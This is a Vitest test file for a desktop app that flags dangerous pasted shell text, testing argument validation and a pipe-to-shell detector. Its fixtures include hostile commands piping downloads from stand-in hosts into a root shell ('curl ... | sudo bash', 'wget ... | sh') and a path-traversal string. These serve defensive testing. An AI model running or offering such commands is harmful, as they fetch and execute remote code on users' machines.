import { describe, expect, it } from 'vitest'
import { mirrorsOnly } from '../../support/backend'
import { createBackend } from '../../../main/node/backend'
import { ArgumentChecks, invokeHandler } from '../../../main/node/handlers'
import { Channels } from '../../../preload/contract/channels'
import type { InspectResultDto } from '../../../preload/contract/dto'
import { createFakeClock } from '../../support/fake-clock'

async function backend(readClipboard?: () => string) {
  const clock = createFakeClock('2026-06-07T10:00:00Z')
  return createBackend({
    runCheck: mirrorsOnly(async () => []),
    clock,
    scheduler: clock,
    appInfo: { name: 'Lifeline', version: 'test', shell: 'electron' },
    readClipboard,
  })
}

describe('ArgumentChecks', () => {
  it('has one check per request of the contract', () => {
    const requests = Object.keys(Channels).filter((k) => !k.startsWith('on'))
    expect(Object.keys(ArgumentChecks).sort()).toEqual(requests.sort())
  })
  describe('when arguments are not identifiers or plain text', () => {
    it.each([
      ['inspectText', [42]],
      ['inspectText', ['a', 'b']],
      ['openAdvisory', ['../../etc/passwd']],
      ['openAdvisory', ['https://ubuntu.com/x']],
      ['setSetting', ['notificationLevel', 'loud']],
      ['setSetting', ['autostart', 'yes']],
      ['pauseNotifications', ['forever']],
      ['setChannelEnabled', ['https://api.osv.dev', false]],
      ['setChannelEnabled', ['../settings.json', false]],
      ['setChannelEnabled', ['osv-dev-api', 'off']],
      ['setChannelEnabled', ['osv-dev-api']],
      ['networkChanged', [1]],
    ])('refuses %s(%j) with API_BAD_ARGUMENT', async (method, args) => {
      expect(await invokeHandler((await backend()).handlers, method, args)).toMatchObject({
        ok: false,
        code: 'API_BAD_ARGUMENT',
      })
    })
  })
  it('refuses pasted text over the limit before it reaches the checker', async () => {
    const big = 'x'.repeat(1024 * 1024 + 1)
    expect(await invokeHandler((await backend()).handlers, 'inspectText', [big])).toMatchObject({
      code: 'API_BAD_ARGUMENT',
    })
  })
})

describe('inspectText handler', () => {
  describe('when the text pipes a download into a root shell', () => {
    it('returns dangerous with the span of the finding and the text checked', async () => {
      const text = 'Emergency fix:\n\n    curl -sL https://ubuntu-fix.example.io/patch.sh | sudo bash\n'
      const r = await invokeHandler((await backend()).handlers, 'inspectText', [text])
      expect(r.ok).toBe(true)
      const v = (r as { ok: true; value: InspectResultDto }).value
      expect(v.verdict).toBe('dangerous')
      expect(v.text).toBe(text)
      const pipe = v.findings.find((f) => f.rule === 'pipe-to-shell')
      expect(pipe?.line).toBe(3)
      expect(pipe?.severity).toBe('high')
      expect(v.blocks).toEqual([])
    })
  })
  describe('when the text is ordinary apt use', () => {
    it('is never dangerous', async () => {
      const r = await invokeHandler((await backend()).handlers, 'inspectText', [
        'sudo apt update && sudo apt upgrade',
      ])
      expect((r as { ok: true; value: InspectResultDto }).value.verdict).not.toBe('dangerous')
    })
  })
})

describe('checkClipboard handler', () => {
  it('reads the clipboard through the port only when called, and checks it', async () => {
    let reads = 0
    const b = await backend(() => {
      reads++
      return 'wget -O- http://203.0.113.9/x.sh | sh'
    })
    expect(reads).toBe(0)
    const r = await invokeHandler(b.handlers, 'checkClipboard', [])
    expect(reads).toBe(1)
    expect((r as { ok: true; value: InspectResultDto }).value).toMatchObject({
      verdict: 'dangerous',
      text: 'wget -O- http://203.0.113.9/x.sh | sh',
    })
  })
})
